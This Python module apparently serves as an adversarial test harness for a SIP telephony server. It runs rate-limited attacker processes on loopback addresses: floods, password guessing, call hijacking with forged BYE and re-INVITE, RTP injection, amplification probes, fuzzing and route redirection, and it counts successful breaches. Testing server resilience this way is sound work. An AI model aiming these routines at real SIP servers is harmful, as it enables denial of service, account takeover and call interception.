"""One attacker of each kind, each a process of its own with addresses of its own, until it is told to stop. Rates are bounded.

Whoever starts them says what they may know: `Target` has the server, what an account of their own would need, and names of a dialog
that a sniffer could have read. Each returns how much it has sent, and what came back that should not have.
"""
import contextlib
import multiprocessing
import os
import random
import select
import socket
import struct
import time

from rawsip import Dialog, Phone, new_branch, random_hex


class Target:
    """server, domain; account: one that was stolen; second: another one of the attacker's; dialog: what a sniffer saw of a call; media: (first, last) port."""

    def __init__(self, server, domain, account, second, media):
        self.server, self.domain, self.account, self.second, self.media, self.dialog = server, domain, account, second, media, None


class Paced:
    """Turns of so many a second until `over` is set; what can't be sent in time is left out."""

    def __init__(self, over, rate, at_once=1):
        self.over, self.pause, self.sent, self.harm = over, at_once / rate, 0, 0

    def __iter__(self):
        due = time.monotonic()
        while not self.over.is_set():
            yield self
            self.sent += 1
            due = max(due + self.pause, time.monotonic() - 1)
            time.sleep(max(0.0, due - time.monotonic()))


def udp(host):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.bind((host, 0))
    one.setblocking(False)
    return one


def drain(one):
    """-> the datagrams that wait"""
    found = []
    with contextlib.suppress(BlockingIOError, ConnectionRefusedError):
        while True:
            found.append(one.recv(65535))
    return found


def tiny_bursts(target, over):
    """64 datagrams of one byte, five times a second."""
    phone, pace = udp("127.0.9.1"), Paced(over, 320, at_once=64)
    server = Phone(target.server, target.domain, target.account).server
    for _ in pace:
        for _ in range(64):
            phone.sendto(random.choice((b"x", b"\0", b"\r\n")), server)
    return pace.sent * 64, 0


def connections(target, over):
    """More TCP connections than there may be, kept warm, from nine addresses; those that are thrown out come back."""
    pace, server = Paced(over, 50), (target.server.rpartition(":")[0], int(target.server.rpartition(":")[2]))
    held = []
    for _ in pace:
        with contextlib.suppress(OSError):
            one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            one.settimeout(0.5)
            one.bind((f"127.0.9.{10 + pace.sent % 9}", 0))
            one.connect(server)
            one.sendall(b"\r\n\r\n")
            held.append(one)
        if len(held) > 300:
            held.pop(random.randrange(len(held))).close()
    return pace.sent, 0


def greedy_registers(target, over):
    """A stolen account that registers another contact each time."""
    pace = Paced(over, 100)
    phone = Phone(target.server, target.domain, target.account, "127.0.9.30")
    for _ in pace:
        phone.port = random.randrange(20000, 60000)
        with contextlib.suppress(AssertionError):
            register(phone)
        phone.seen.clear()
    return pace.sent, 0


def register(phone):
    """As `Phone.register`, but does not wait for long for who is silent."""
    dialog = Dialog(random_hex(), f"{phone.address};tag={random_hex(4)}", phone.address, "sip:" + phone.domain)
    return phone.with_credentials("REGISTER", dialog, ["Expires: 300"], "", lambda message: message.status >= 200, patience=0.5)[2].status


def greedy_calls(target, over):
    """A stolen account that calls numbers that are not there and a phone of its own with 16 media lines, and acknowledges nothing."""
    pace = Paced(over, 100)
    phone = Phone(target.server, target.domain, target.account, "127.0.9.31")
    own = Phone(target.server, target.domain, target.second, "127.0.9.32")
    with contextlib.suppress(AssertionError):
        register(own)
    line = "m=audio {} RTP/AVP 0\r\n"
    for _ in pace:
        number = random.choice((target.second[0], "7777"))
        dialog = Dialog(random_hex(), f"{phone.address};tag={random_hex(4)}", f"<sip:{number}@{phone.domain}>", f"sip:{number}@{phone.domain}")
        body = f"v=0\r\no=- 1 1 IN IP4 {phone.host}\r\ns=-\r\nc=IN IP4 {phone.host}\r\nt=0 0\r\n" + "".join(line.format(30000 + 2 * i) for i in range(16))
        with contextlib.suppress(AssertionError):
            phone.with_credentials("INVITE", dialog, [], body, lambda message: True, patience=0.5)
        phone.seen.clear()
    return pace.sent, 0


def guesser(target, over):
    """Wrong passwords for an account that is not its own, by REGISTER and by INVITE, as quickly as they are answered."""
    pace, harm = Paced(over, 300), 0
    for _ in pace:
        phone = Phone(target.server, target.domain, ("1001", random_hex(6)), "127.0.9.40")
        with contextlib.suppress(AssertionError):
            if pace.sent % 2:
                harm += register(phone) == 200
            else:
                dialog = Dialog(random_hex(), f"{phone.address};tag={random_hex(4)}", f"<sip:1002@{phone.domain}>", f"sip:1002@{phone.domain}")
                reply = phone.with_credentials("INVITE", dialog, [], phone.sdp(4000), lambda message: True, patience=0.5)[2]
                harm += reply.status < 300
        phone.close()
    return pace.sent, harm


def hijacker(target, over):
    """Knows the names of a call that is up and says BYE, INFO, re-INVITE and CANCEL from another address."""
    pace, harm = Paced(over, 5), 0
    phone = Phone(target.server, target.domain, ("1001", ""), "127.0.9.50")
    for _ in pace:
        known = target.dialog
        dialog = Dialog(known.call_id, known.local, known.remote, known.target, known.routes, known.cseq + 1000 + pace.sent)
        for method in ("BYE", "INFO", "INVITE", "UPDATE", "CANCEL"):
            phone.send(phone.request(method, dialog, body=phone.sdp(4000) if method == "INVITE" else ""))
            reply = phone.receive(lambda message: message.status is not None and message.status >= 200, 0.3)
            harm += bool(reply and reply.status < 300)
            if method == "INVITE" and reply:
                phone.send(phone.request("ACK", dialog))
        phone.seen.clear()
    return pace.sent * 5, harm


def injector(target, over):
    """RTP to all media ports, again and again; counts what it hears of the calls."""
    one, pace, harm = udp("127.0.9.60"), Paced(over, 1000, at_once=20), 0
    host, ports = target.server.rpartition(":")[0], range(target.media[0], target.media[1] + 1)
    at = 0
    for _ in pace:
        for _ in range(20):
            packet = struct.pack(">BBHII", 0x80, 0, at & 0xffff, 160 * at & 0xffffffff, 0x666) + b"\x55" * 160
            one.sendto(packet, (host, ports[at % len(ports)]))
            at += 1
        harm += sum(len(packet) == 172 for packet in drain(one))
    return at, harm


def amplifier(target, over):
    """Requests that want long answers; harm is each byte above four times what was sent."""
    one, pace, sent, came, answered = udp("127.0.9.70"), Paced(over, 500, at_once=10), 0, 0, 0
    phone = Phone(target.server, target.domain, ("1001", ""), "127.0.9.70")
    phone.port = one.getsockname()[1]
    for _ in pace:
        for _ in range(10):
            method = random.choice(("OPTIONS", "INVITE", "REGISTER", "SUBSCRIBE", "FOO"))
            dialog = Dialog(random_hex(4), f"{phone.address};tag=1", f"<sip:{target.domain}>", "sip:" + target.domain, cseq=1)
            text = phone.request(method, dialog, extra=["Require: " + ",".join("x" * random.randrange(1, 40))] if random.random() < 0.3 else ()).encode()
            one.sendto(text, phone.server)
            sent += len(text)
        for answer in drain(one):
            came, answered = came + len(answer), answered + 1
    return answered, max(0, came - 4 * sent)


def flood(target, over):
    """Requests of strangers from many addresses, 4000 a second."""
    phones = [udp(f"127.0.8.{i}") for i in range(1, 60)]
    phone, pace = Phone(target.server, target.domain, ("1001", ""), "127.0.8.1"), Paced(over, 4000, at_once=80)
    dialog = Dialog("flood", f"{phone.address};tag=1", f"<sip:1002@{target.domain}>", f"sip:1002@{target.domain}", cseq=1)
    texts = [phone.request(method, dialog, body=phone.sdp(4000) if method == "INVITE" else "", branch=new_branch()).encode()
             for method in ("OPTIONS", "REGISTER", "INVITE", "BYE") for _ in range(50)]
    for _ in pace:
        for i in range(80):
            one = phones[(pace.sent + i) % len(phones)]
            with contextlib.suppress(BlockingIOError):
                one.sendto(random.choice(texts), phone.server)
        drain(phones[pace.sent % len(phones)])
    return pace.sent * 80, 0


def odd_messages(target, over):
    """Good requests of which a piece was damaged, without an account and with bytes of all kinds."""
    one, pace = udp("127.0.9.80"), Paced(over, 200, at_once=10)
    phone = Phone(target.server, target.domain, ("1001", ""), "127.0.9.80")
    for _ in pace:
        for _ in range(10):
            dialog = Dialog(random_hex(), f"{phone.address};tag=1", f"<sip:1002@{target.domain}>", f"sip:1002@{target.domain}", cseq=1)
            text = bytearray(phone.request(random.choice(("INVITE", "REGISTER", "ACK", "BYE")), dialog, body=phone.sdp(4000)).encode())
            for _ in range(random.randrange(1, 6)):
                at = random.randrange(len(text))
                text[at:at + random.randrange(4)] = os.urandom(random.randrange(4))
            one.sendto(bytes(text), phone.server)
        drain(one)
    return pace.sent * 10, 0


def messenger(target, over):
    """A stolen account whose routes and contacts name a third address; harm is what arrives there."""
    pace, harm = Paced(over, 2), 0
    phone, third = Phone(target.server, target.domain, target.account, "127.0.9.90"), udp("127.0.9.91")
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.9.91", 0))
    listener.listen()
    ports = (third.getsockname()[1], listener.getsockname()[1])
    for _ in pace:
        dialog = Dialog(random_hex(), f"{phone.address};tag={random_hex(4)}", f"<sip:{target.second[0]}@{phone.domain}>",
                        f"sip:{target.second[0]}@{phone.domain}")
        routes = [f"Record-Route: <sip:127.0.9.91:{ports[1]};transport=tcp;lr>", f"Record-Route: <sip:127.0.9.91:{ports[0]};lr>"]
        with contextlib.suppress(AssertionError):
            phone.with_credentials("INVITE", dialog, routes, phone.sdp(4000), lambda message: True, patience=0.5)
        harm += len(drain(third)) + len(select.select([listener], [], [], 0)[0])
        phone.seen.clear()
    return pace.sent, harm


KINDS = (tiny_bursts, connections, greedy_registers, greedy_calls, guesser, hijacker, injector, amplifier, flood, odd_messages, messenger)


class Attackers:
    """All of them at once, each in a process of its own."""

    def __init__(self, target, kinds=KINDS):
        self.over, self.told = multiprocessing.Event(), multiprocessing.Queue()
        self.processes = [multiprocessing.Process(target=self.play, args=(kind, target), daemon=True) for kind in kinds]
        for process in self.processes:
            process.start()

    def play(self, kind, target):
        try:
            sent, harm = kind(target, self.over)
            self.told.put((kind.__name__, sent, harm, ""))
        except Exception as fault:  # an attacker that falls over is no attacker: the run has to say so
            self.told.put((kind.__name__, 0, 0, repr(fault)))

    def stop(self):
        """-> name: (how much it sent, what it did that should not be possible, why it fell over)"""
        self.over.set()
        found = dict((name, rest) for name, *rest in (self.told.get(timeout=30) for _ in self.processes))
        for process in self.processes:
            process.join(10)
        return found
